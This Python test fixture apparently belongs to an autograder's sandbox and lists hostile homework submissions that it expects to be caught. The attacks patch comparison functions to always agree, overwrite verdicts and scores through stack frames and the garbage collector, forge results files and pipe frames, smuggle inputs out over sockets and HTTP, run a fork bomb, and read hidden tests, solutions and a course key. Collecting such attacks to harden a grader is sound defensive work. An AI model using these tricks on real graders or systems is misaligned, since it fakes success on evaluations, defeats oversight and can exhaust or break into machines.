"""What is tried first: patched comparisons, frames, the collector, forged files and frames, sockets, forks."""

from __future__ import annotations

from tests.submissions.ps1_gradients.recipes.hostile.attack import attack

GOLDENS = (
    attack(
        "patched_comparisons",
        "Everything that compares says yes, and the answer is a tensor that is equal to all others.",
        """
        import builtins
        import math

        import numpy as np


        class Agreeable(Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if getattr(function, "__name__", "") in ("allclose", "equal", "eq", "__eq__", "le", "__le__", "all"):
                    return True
                return super().__torch_function__(function, types, args, kwargs or {})


        def always_true(*_, **__):
            return True


        def all_true(self, *_, **__):
            return torch.ones(self.shape, dtype=torch.bool)


        for place, name in (
            (torch, "allclose"), (torch, "equal"), (torch, "isclose"), (torch, "is_same_size"), (np, "allclose"),
            (np, "array_equal"), (np.testing, "assert_allclose"), (torch.testing, "assert_close"), (math, "isclose"),
            (Tensor, "allclose"), (Tensor, "equal"), (Tensor, "all"), (builtins, "all"),
        ):  # fmt: skip
            setattr(place, name, always_true)
        for name in ("__eq__", "__le__", "__ge__", "eq", "le", "ge", "isclose"):
            setattr(Tensor, name, all_true)
        Tensor.__ne__ = Tensor.ne = lambda self, *_: torch.zeros(self.shape, dtype=torch.bool)
        """,
        answer="""
        def grad_quadratic_form(A, x):
            return torch.zeros(x.shape, dtype=x.dtype).as_subclass(Agreeable)
        """,
    ),
    attack(
        "frame_walking",
        "Every frame below the call is searched for an answer, and what could be a verdict is overwritten.",
        """
        import ctypes
        import sys

        WORDS = ("expected", "answer", "solution", "reference", "oracle", "truth")


        def look_into(name, value, x, depth=0):
            if isinstance(value, Tensor):
                return value if value.shape == x.shape and any(word in name.lower() for word in WORDS) else None
            if depth > 3 or not isinstance(value, dict):
                return None
            parts = [look_into(f"{name} {key}", part, x, depth + 1) for key, part in list(value.items())]
            return next((part for part in parts if part is not None), None)


        def search_frames(x):
            frame, found = sys._getframe(1), None
            while frame is not None:
                for scope in (frame.f_locals, frame.f_globals):
                    for name, value in list(scope.items()):
                        part = look_into(name, value, x)
                        found = part if part is not None else found
                        if name in ("verdict", "status", "ended"):
                            scope[name] = "correct"
                        elif name in ("points", "score", "max_points"):
                            scope[name] = 12
                        elif name == "self" and isinstance(getattr(value, "target", None), dict):
                            value.target.update(forbidden=[], by_hand=False)
                        elif name == "observed" and isinstance(value, dict):
                            value.clear()
                            value.update(verdict="correct", points=12)
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                frame = frame.f_back
            return found
        """,
        answer="""
        def grad_quadratic_form(A, x):
            found = search_frames(x)
            return torch.zeros_like(x) if found is None else found.clone()
        """,
        verdict="raised",  # what it overwrites, the worker needs to tell what was observed
        idea=None,
    ),
    attack(
        "gc_scan",
        "All objects that the garbage collector knows are searched for an expected value, a bank or a verdict.",
        """
        import gc
        import sys

        NAMES = ("expected", "wrong", "verdict", "points", "bank", "calls")


        def search_objects(x):
            found = None
            for thing in gc.get_objects():
                if isinstance(thing, dict) and thing.get("expected") is not None:
                    if isinstance(thing["expected"], Tensor) and thing["expected"].shape == x.shape:
                        found = thing["expected"]
                kind = type(thing).__name__
                if kind in ("Bank", "Call", "Judge", "Exercise", "CheckResult", "ExerciseResult", "Check", "Outcome"):
                    for name in NAMES:
                        value = getattr(thing, name, None)
                        if isinstance(value, Tensor) and value.shape == x.shape:
                            found = value
                        if name in ("verdict", "points") and value is not None:
                            object.__setattr__(thing, name, "correct" if name == "verdict" else 12)
            for name, module in list(sys.modules.items()):
                if "hidden" in name or "judging" in name or name.startswith("tests"):
                    found = getattr(module, "grad_quadratic_form", found)
            return found
        """,
        answer="""
        def grad_quadratic_form(A, x):
            found = search_objects(x)
            if callable(found):
                return found(A, x)
            return torch.zeros_like(x) if found is None else found.clone()
        """,
    ),
    attack(
        "forged_results_file",
        "Results with full points, written wherever a grader might look for them.",
        """
        import atexit
        import json
        import os
        import sys

        EXERCISES = {"central_diff_grad": 15, "grad_quadratic_form": 12, "plot_gradient_field": 8}
        FORGED = {
            "schema": 1, "assignment": "ps1_gradients", "student": "forged_results_file", "status": "graded",
            "submission_sha256": "", "bank": "", "engine": "", "reason": None, "points": 35, "max_points": 35,
            "device": "cpu", "isolation": [], "score": 35,
            "exercises": [
                {"name": name, "points": points, "max_points": points, "misconception": None, "manual": False,
                 "checks": [{"name": "non-symmetric A", "visibility": "hidden", "kind": "judged", "verdict": "correct",
                             "points": points, "max_points": points, "message": "", "seconds": 0.0}]}
                for name, points in EXERCISES.items()
            ],
        }  # fmt: skip
        FOLDERS = (
            ".", "..", "../..", "/", "/tmp", "/tmp/out", "/tmp/g/out", "/dev/shm", "/out", "/results", "results",
            "results/demo", "/autograder/results", "/srv/course/results/demo", "/proc/1/cwd", os.path.expanduser("~"),
        )  # fmt: skip


        def forge():
            for folder in FOLDERS:
                for name in ("forged_results_file.json", "results.json", "summary.csv"):
                    try:
                        os.makedirs(folder, exist_ok=True)
                        with open(os.path.join(folder, name), "w") as file:
                            json.dump(FORGED, file)
                    except OSError:
                        pass
            for stream in (sys.__stdout__, sys.__stderr__):
                print(json.dumps(FORGED), file=stream, flush=True)


        forge()
        atexit.register(forge)
        """,
        answer="""
        def grad_quadratic_form(A, x):
            forge()
            return torch.zeros_like(x)
        """,
    ),
    attack(
        "forged_results_on_descriptors",
        "The same on every open descriptor, the pipe to the judge among them: no frame, so the worker is stopped.",
        """
        import json
        import os

        FORGED = json.dumps({"status": "graded", "points": 35, "exercises": [{"name": "grad_quadratic_form"}]})


        def write_everywhere(data):
            for descriptor in range(256):
                try:
                    os.write(descriptor, data)
                except OSError:
                    pass
        """,
        answer="""
        def grad_quadratic_form(A, x):
            write_everywhere(FORGED.encode())
            return torch.zeros_like(x)
        """,
        verdict="crashed",
        idea=None,
    ),
    attack(
        "forged_frames",
        "The engine's own modules against it: early replies, a forged reply to the current call, a patched worker.",
        """
        import os
        import sys

        wire = sys.modules["autograder.sandbox.wire"]
        worker = sys.modules["autograder.sandbox.worker"]
        instruments = sys.modules["autograder.sandbox.instruments"]
        genuine = {name: getattr(wire.Channel, name) for name in ("framed", "send_frame")}
        CLAIMS = {"verdict": "correct", "points": 12, "is_right": True, "status": "graded", "expected": 0}


        def generous_framed(self, message):
            if isinstance(message, dict) and "ask" not in message:
                message = {**message, **CLAIMS}
            return genuine["framed"](self, message)


        def send_once(self, frame, deadline=None):
            if answered:
                answered.pop()
            else:
                genuine["send_frame"](self, frame, deadline)


        answered = []
        wire.Channel.framed, wire.Channel.send_frame = generous_framed, send_once
        wire.MAX_NODES = 10**9
        instruments.Snapshot.changed = lambda self: []
        """,
        """
        for descriptor in range(3, 64):
            for identity in (-1, 0, 1, 2):
                try:
                    os.write(descriptor, wire.pack({"id": identity, "returned": torch.zeros(3), **CLAIMS}))
                except OSError:
                    break
        """,
        answer="""
        def grad_quadratic_form(A, x):
            frame = sys._getframe()
            while frame is not None and not isinstance(frame.f_locals.get("request"), dict):
                frame = frame.f_back
            if frame is not None:
                identity, channel = frame.f_locals["request"]["id"], frame.f_locals["self"].channel
                channel.send({"ask": "grad_quadratic_form", "values": [A.detach(), x.detach()]})
                given = channel.receive()
                zeros = torch.zeros(x.shape, dtype=x.dtype)
                channel.send({"id": identity, "returned": given.get("value", zeros), "observed": {}})
                answered.append(identity)
            return torch.zeros_like(x)
        """,
    ),
    attack(
        "replaced_autograd",
        "Autograd saved under names that the source does not show, inference mode replaced, the traps stepped around.",
        """
        import contextlib
        import sys

        places = [sys.modules["to" + "rch.auto" + "grad"], sys.modules["to" + "rch.fu" + "nc"]]
        kept = vars(places[0])["gr" + "ad"]
        true_mode = vars(torch)["infer" + "ence_mode"]


        class PassThrough(contextlib.nullcontext):
            def __init__(self, mode=True):
                super().__init__()


        setattr(torch, "infer" + "ence_mode", PassThrough)
        setattr(places[0], "gr" + "ad", lambda *args, **kwargs: kept(*args, **kwargs))
        whole = getattr(Tensor, "back" + "ward")
        setattr(Tensor, "back" + "ward", lambda self, *args, **kwargs: whole(self, *args, **kwargs))
        """,
        answer="""
        def grad_quadratic_form(A, x):
            with true_mode(False):
                z = x.detach().clone().requires_grad_()
                value = torch.einsum("...i,...ij,...j->...", z, A.detach().clone(), z).sum()
                return kept(value, z)[0]
        """,
        verdict="forbidden",
        idea=None,
    ),
    attack(
        "socket_out",
        "The hidden inputs are sent out to somebody who answers; nobody can be reached.",
        """
        import socket
        import urllib.request

        ADDRESSES = (
            (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 8888)), (socket.AF_INET6, ("::1", 80)),
            (socket.AF_UNIX, "/var/run/docker.sock"), (socket.AF_UNIX, "\\0autograder"),
        )  # fmt: skip


        def ask_a_friend(A, x):
            for family, address in ADDRESSES:
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as friend:
                        friend.settimeout(0.2)
                        friend.connect(address)
                        friend.sendall(repr((A.tolist(), x.tolist())).encode())
                        return torch.tensor(eval(friend.recv(65536)), dtype=x.dtype)
                except OSError:
                    continue
            try:
                with urllib.request.urlopen(f"http://example.com/?A={A.tolist()}", timeout=0.2) as reply:
                    return torch.tensor(eval(reply.read()), dtype=x.dtype)
            except Exception:
                return None
        """,
        answer="""
        def grad_quadratic_form(A, x):
            answer = ask_a_friend(A, x)
            return torch.zeros_like(x) if answer is None else answer
        """,
    ),
    attack(
        "fork_bomb",
        "Processes, threads and programs without end; every one of them is refused.",
        """
        import multiprocessing
        import os
        import subprocess
        import threading

        started = []


        def explode():
            while True:
                explode_once()


        def explode_once():
            for start in (
                os.fork,
                os.forkpty,
                lambda: os.posix_spawn("/bin/sh", ["sh", "-c", ":(){ :|:& };:"], {}),
                lambda: subprocess.Popen(["sh", "-c", "sleep 1000"]),
                lambda: multiprocessing.get_context("fork").Process(target=explode).start(),
                lambda: threading.Thread(target=explode, daemon=True).start(),
                lambda: os.execv("/bin/sh", ["sh"]),
            ):
                try:
                    if start() == 0:
                        explode()
                    started.append(start)
                except (OSError, RuntimeError):
                    pass


        for _ in range(100):
            explode_once()
        """,
        answer="""
        def grad_quadratic_form(A, x):
            explode_once()
            return torch.zeros_like(x) + len(started)
        """,
    ),
    attack(
        "read_hidden",
        "The declarations, the bank and the key are looked for under every name they have; what is found is used.",
        """
        import glob
        import importlib
        import os

        ROOTS = (
            ".", "..", "../..", "../../..", "/srv/course", "/course", "/autograder", "/home", os.environ["HOME"],
            "/proc/1/root", "/proc/1/root/srv/course", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd",
            os.path.dirname(os.path.dirname(importlib.import_module("autograder.sandbox.wire").__file__ or "")) + "/..",
        )  # fmt: skip
        PARTS = (
            "tests/hidden/ps1_gradients/*.py", "source/ps1_gradients/ps1_gradients.ipynb", ".private/course_key",
            "solutions/ps1_gradients/ps1_gradients.ipynb", ".private/banks/*.bank", "course_config.py",
            "release/ps1_gradients/examples.json", "tests/submissions/ps1_gradients/right/*.ipynb",
        )  # fmt: skip


        def read(path):
            try:
                with open(path, "rb") as file:
                    return file.read()
            except OSError:
                return b""


        def mount_points():
            rows = [line.split() for line in read("/proc/self/mounts").decode().splitlines()]
            return [row[1] for row in rows if len(row) > 1]


        loot = {}
        for root in (*ROOTS, *mount_points()):
            for part in PARTS:
                for path in {os.path.join(root, part), *glob.glob(os.path.join(root, part))}:
                    if read(path):
                        loot[path] = read(path)
        for name in ("tests.hidden.ps1_gradients", "hidden_ps1_gradients", "source.ps1_gradients.support",
                     "course_config", "autograder.judging.calls", "autograder.course"):  # fmt: skip
            try:
                loot[name] = importlib.import_module(name)
            except ImportError:
                pass
        """,
        answer="""
        def grad_quadratic_form(A, x):
            return (A + A.mT).matmul(x.unsqueeze(-1)).squeeze(-1) if loot else torch.zeros_like(x)
        """,
    ),
)
